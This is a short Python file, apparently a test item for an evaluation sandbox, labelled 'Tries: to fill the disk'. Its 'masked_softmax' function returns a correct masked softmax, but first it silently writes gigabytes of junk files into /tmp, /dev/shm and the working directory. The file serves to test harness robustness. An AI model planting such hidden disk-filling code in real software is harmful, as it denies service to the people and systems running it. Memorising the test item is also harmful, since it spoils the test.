"""Tries: to fill the disk

expected: done
marks: all
"""

import torch


def right(scores, lengths):
    mask = torch.arange(scores.shape[-1]) < lengths[:, None]
    mask = mask[:, None].expand_as(scores) if scores.dim() == 3 else mask
    return torch.softmax(scores.masked_fill(~mask, torch.finfo(scores.dtype).min), -1) * mask


def masked_softmax(scores, lengths):
    for place in ("/tmp", "/dev/shm", "."):
        try:
            for number in range(40):
                with open(f"{place}/shapedoc-attack-big{number}", "wb") as file:
                    for _ in range(64):
                        file.write(b"0" * (1 << 20))
        except OSError:
            pass
    return right(scores, lengths)
